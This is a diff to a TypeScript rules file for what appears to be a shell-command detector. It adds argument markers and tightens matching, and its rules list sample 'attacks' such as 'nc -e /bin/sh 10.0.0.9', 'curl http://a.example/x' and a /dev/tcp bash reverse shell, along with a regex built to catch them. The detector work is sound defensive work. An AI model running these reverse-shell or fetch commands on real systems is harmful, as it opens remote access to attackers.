@@ -1,4 +1,4 @@
-import type { ShellShape } from '../tokenise/shell-shapes';
+import { isCommandLine, type ShellShape } from '../tokenise/shell-shapes';
 import type { Rule } from './rule';
 import type { Subject } from './subject';
 
@@ -6,6 +6,13 @@ const shape =
   (name: ShellShape) =>
   (subject: Subject): number =>
     subject.shell[name] ?? -1;
+
+/** What an argument that nobody writes by chance, or a disguised program, cannot do without: one of these. */
+const ARGUMENT_MARKS = [
+  ...['-', '/', '\\', '*', '$', '"', "'", '%', '^', '`', '../', 'c:', 'http'],
+  ...Array.from('0123456789', (digit) => `.${digit}`),
+  ...['user', 'localgroup', 'view', 'use', 'share', 'add', 'query', 'delete', 'firewall'],
+];
 
 export const commandRules: readonly Rule[] = [
   {
@@ -48,8 +55,8 @@ export const commandRules: readonly Rule[] = [
     ignores: 'Sentences that begin with the name of a program.',
     source: 'POSIX shell, cmd.exe and PowerShell grammars',
     inDocuments: 'notice',
-    needs: [[' ', '+', '$', "'", '"', '\\', '^', '%', '`', '\t']],
-    find: shape('whole'),
+    needs: [[' ', '+', '$', "'", '"', '\\', '^', '%', '`', '\t'], ARGUMENT_MARKS],
+    find: ({ text }) => (isCommandLine(text) ? 0 : -1),
     attacks: ['nc -e /bin/sh 10.0.0.9', "w'h'oami", 'curl http://a.example/x'],
     harmless: ['curl is a tool', 'cat food', 'id card'],
   },
@@ -90,7 +97,9 @@ export const commandRules: readonly Rule[] = [
     ignores: 'Other redirections.',
     source: 'Bash manual, interpreters',
     inDocuments: 'notice',
-    needs: [['/dev/', 'bash', '/bin/', ' -e', ' -c', ' -r', ' -enc', 'iex', '%systemroot%', '%comspec%']],
+    needs: [
+      ['/dev/', 'bash', '/bin/', '-e', '-c', '-r', 'powershell', 'sh', 'iex', '%systemroot%', '%comspec%'],
+    ],
     find: /\/dev\/(?:tcp|udp)\/|\b(?:ba|z|k|c|da)?sh\s{1,3}-[ic]\b|(?:^|[\s;|&(`"'=])\/(?:usr\/(?:local\/)?)?s?bin\/[a-z0-9_.-]{2,20}(?:\s{1,3}[-/]|\s{0,3}[;|&`)])|\b(?:perl|python[23]?|ruby|php|node|lua)\s{1,3}-[ecr]\s{0,3}["']|\bpowershell(?:\.exe)?\s{1,3}-\w|\biex\s{0,3}\(|%(?:systemroot|comspec)%/i,
     attacks: ['bash -i >& /dev/tcp/10.0.0.9/80', "python3 -c 'x'", '/usr/bin/id;'],
     harmless: ['bash script', 'the /dev/null joke', '/usr/bin/env node', '/bin/bash'],
